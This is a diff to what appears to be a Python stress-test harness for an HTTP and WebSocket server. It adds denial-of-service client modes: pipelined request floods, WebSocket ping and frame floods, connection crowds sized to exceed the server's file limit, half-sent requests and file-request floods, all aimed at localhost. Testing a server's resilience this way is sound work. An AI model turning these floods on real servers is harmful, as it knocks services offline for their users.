@@ -1,4 +1,5 @@
 """Clients that attack the server at --port."""
+import resource
 import select
 import socket
 import threading
@@ -7,6 +8,8 @@ import time
 from hostile import Connection, Gone
 
 CONNECTIONS = 64
+# More than the victim may have.
+CROWD = 700
 
 
 def connect(peer):
@@ -103,8 +106,8 @@ def floods(start, block):
     return attack
 
 
-def pipelines(connection):
-    """Sends requests as fast as possible, and reads the responses."""
+def reads_and_floods(connection, block):
+    """Sends as fast as possible, and reads what comes back."""
 
     def read():
         try:
@@ -114,11 +117,88 @@ def pipelines(connection):
             pass
 
     threading.Thread(target=read, daemon=True).start()
-    connection.flood(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
+    connection.flood(block)
+
+
+def pipelines(connection):
+    reads_and_floods(connection, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
+
+
+def frames(*blocks):
+    """A WebSocket client that sends the first frames once, and the last one as fast as possible."""
+
+    def attack(connection):
+        connection.send(
+            b"GET /socket HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
+        for block in blocks[:-1]:
+            connection.send(block)
+        reads_and_floods(connection, blocks[-1])
+
+    return attack
+
+
+def frame(first, payload=b""):
+    """A frame, masked with zeros. `first` is its first byte: the final bit and the opcode."""
+    return bytes([first, 0x80 | len(payload)]) + bytes(4) + payload
+
+
+def crowds(start):
+    """Connects more often than the server can accept, sends `start`, and connects again whenever a connection ends."""
+
+    def run(peer):
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
+        peer.say("ready", 0)
+        connections = []
+        rounds = 1 if peer.is_bounded else 1 << 30
+        for _ in range(rounds):
+            while len(connections) < CROWD:
+                connection = connect(peer)
+                try:
+                    connection.send(start)
+                except Gone:
+                    pass
+                connection.socket.setblocking(False)
+                connections.append(connection)
+            time.sleep(0.05)
+            connections = [connection for connection in connections if not has_ended(connection)]
+        peer.say("done")
+
+    return run
+
+
+def has_ended(connection):
+    try:
+        return connection.socket.recv(1 << 16) == b""
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+
+
+def requests_of_files(connection):
+    """Requests a file, and reads it."""
+    connection.send(
+        b"GET /files/text.txt HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n")
+    try:
+        while connection.socket.recv(1 << 16):
+            pass
+    except OSError:
+        pass
+
+
+def many(attack):
+    """As many connections as delay a loop that gives each of them a share of its own; two of a bounded peer."""
+
+    def run(peer):
+        attacks(attack, 2 if peer.is_bounded else 20)(peer)
+
+    return run
 
 
 def never_reads(connection):
-    connection.send(b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n" * 4)
+    connection.send(b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n" * 4)
     wait_for_end(connection)
 
 
@@ -129,7 +209,7 @@ def comes_and_goes(connection):
         other.socket.close()
 
 
-POST = b"POST / HTTP/1.1\r\nHost: a\r\n"
+POST = b"POST / HTTP/1.1\r\nHost: localhost\r\n"
 
 MODES = {
     "server-head-drip": attacks(drips(b"GET / HTTP/1.1\r\n", b"X-A: b\r\n"), CONNECTIONS, measures=True),
@@ -140,7 +220,16 @@ MODES = {
     "server-fields": attacks(floods(b"GET / HTTP/1.1\r\n", b"X-A: b\r\n"), 4),
     "server-empty-lines": attacks(floods(b"", b"\r\n"), 4),
     "server-pipelining": attacks(pipelines, 2),
+    "server-pipelining-crowd": many(pipelines),
     "server-one-chunk-per-byte": attacks(
         floods(POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n"), 2),
+    "server-one-chunk-per-byte-crowd": many(
+        floods(POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n")),
+    "server-websocket-pings": many(frames(frame(0x89))),
+    "server-websocket-messages": many(frames(frame(0x82, b"a"))),
+    "server-websocket-empty-frames": many(frames(frame(0x02), frame(0x00))),
+    "server-silent": crowds(b""),
+    "server-half-heads": crowds(b"GET / HT"),
+    "server-slow-disk": many(requests_of_files),
     "server-connections": attacks(comes_and_goes, 2),
 }
